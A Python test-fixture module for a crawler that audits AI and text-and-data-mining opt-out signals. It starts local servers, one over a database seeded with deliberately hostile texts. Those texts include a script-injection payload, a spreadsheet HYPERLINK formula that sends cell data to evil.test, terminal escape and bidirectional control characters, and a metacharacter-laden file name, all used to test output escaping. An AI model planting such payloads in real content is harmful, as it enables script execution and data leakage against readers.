"""Servers of two databases, each started once: the demo's, and one whose texts attack readers."""

import http.client
import json
import os
import re
import signal
import subprocess
import sys
from contextlib import closing
from urllib.parse import urlencode

import pytest

from crawler import page, rulesets
from crawler.commands.judge import rebuild
from crawler.evaluate.snapshot import EXPECTED
from crawler.model import Observation, Origin, Target
from crawler.store import evidence_writer, runs
from crawler.store.database import connect, transaction
from crawler.vocab import PAGES, Outcome, Resource
from tests.conftest import ROOT, patience

AT = "2026-11-22T00:00:00.000Z"
SCRIPT = "<script>alert(1)</script><img src=//evil.test/x>"
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"licence")'
HOSTILE = {
    Resource.ROBOTS_TXT: f"# {SCRIPT} \u202e\x1b[2J\nUser-agent: GPTBot\nDisallow: /{SCRIPT}\n",
    Resource.TDMREP_JSON: json.dumps(
        [{"location": "/", "tdm-reservation": 1, "tdm-policy": FORMULA}], indent=1
    ),
    Resource.HOME: f'<meta name="robots" content="noai"><title>{SCRIPT}</title>'
    f"<p>We reserve all rights to text and data mining {SCRIPT}.",
}


class Served:
    """A server in a process, and requests to it."""

    def __init__(self, db, *options, cache, program=("-m", "crawler"), env=()):
        command = [sys.executable, *program, "serve", "--db", str(db), "--port", "0"]
        self.process = subprocess.Popen(
            [*command, "--no-open", *options],
            cwd=ROOT,
            env=os.environ | {"PYTHONPATH": str(ROOT), "XDG_CACHE_HOME": str(cache), **dict(env)},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        line = self.process.stdout.readline()
        found = re.search(r"http://127\.0\.0\.1:(\d+)/", line)
        assert found, line + self.process.stderr.read()
        self.port, self.url = int(found[1]), found[0].rstrip("/")

    def get(self, path, headers=(), method="GET", **asked):
        """Return status, headers by lower-case name, and body."""
        target = f"{path}{'?' if asked else ''}{urlencode(asked)}"
        with closing(http.client.HTTPConnection("127.0.0.1", self.port, patience(20))) as to:
            to.request(method, target, headers=dict(headers))
            answer = to.getresponse()
            body = answer.read().decode("utf-8", "replace")
            return answer.status, {k.lower(): v for k, v in answer.getheaders()}, body

    def sql(self, sql):
        """Return the rows of a query; those of the error if there is one."""
        data = json.loads(self.get("/audit.json", sql=sql, _shape="arrays")[2])
        return data["rows"] if data["ok"] else data["error"]

    def end(self, number=signal.SIGINT):
        """Return status and standard error after a signal."""
        self.process.send_signal(number)
        _, error = self.process.communicate(timeout=patience(20))
        return self.process.returncode, error


@pytest.fixture(scope="session")
def cache(tmp_path_factory):
    return tmp_path_factory.mktemp("cache")


@pytest.fixture(scope="session")
def served(demo_output, cache):
    server = Served(demo_output / "audit.db", cache=cache)
    yield server
    server.end()


def observation(host, resource, path, text=None):
    url = f"https://{host}{path}"
    content = (text or "").encode()
    extracted = resource in PAGES and text is not None
    return Observation(
        target=Target(resource=resource, asked=url, url=url),
        outcome=Outcome.RESPONDED,
        status=404 if text is None else 200,
        headers=(("content-type", "text/html"),) if extracted else (),
        body=content,
        size=len(content),
        started_at=AT,
        extract=page.extract(content) if extracted else b"",
    )


def write_visit(db, number, host, run, texts):
    """Store what an origin answers."""
    seen = [observation(host, r, path, texts.get(r)) for r, path in EXPECTED.items()]
    with transaction(db):
        evidence_writer.save_visit(db, run, number, seen, AT)


def new_database(path, hosts):
    """Make a database of origins without evidence. Return it and the number of its run."""
    db = connect(path, create=True)
    origins = [Origin(scheme="https", host=h, port=443, site=h) for h in hosts]
    new = evidence_writer.NewDataset(
        path=f"{SCRIPT}.csv",
        files=(),
        format="csv",
        url_column="url",
        weight_column="",
        rows=3 * len(hosts),
        rejects=(),
    )
    facts = dict.fromkeys(("command", "version", "user_agent", "suffix_list", "catalogue"), "")
    with transaction(db):
        evidence_writer.add_dataset(db, new, [(o.host, o, 3, None, []) for o in origins], AT)
        run = runs.begin_run(db, runs.NewRun(versions={}, settings={}, **facts), AT)
    return db, run


def judge(db):
    rebuild(db, chosen=rulesets.load("signals"), keep_contacts=False)


@pytest.fixture(scope="session")
def hostile(tmp_path_factory, cache):
    path = tmp_path_factory.mktemp("hostile") / "a?b#c%41 <b>.db"
    db, run = new_database(path, ["hostile.test"])
    write_visit(db, 1, "hostile.test", run, HOSTILE)
    judge(db)
    db.close()
    server = Served(path, "--max-rows", "50", cache=cache)
    yield server
    server.end()
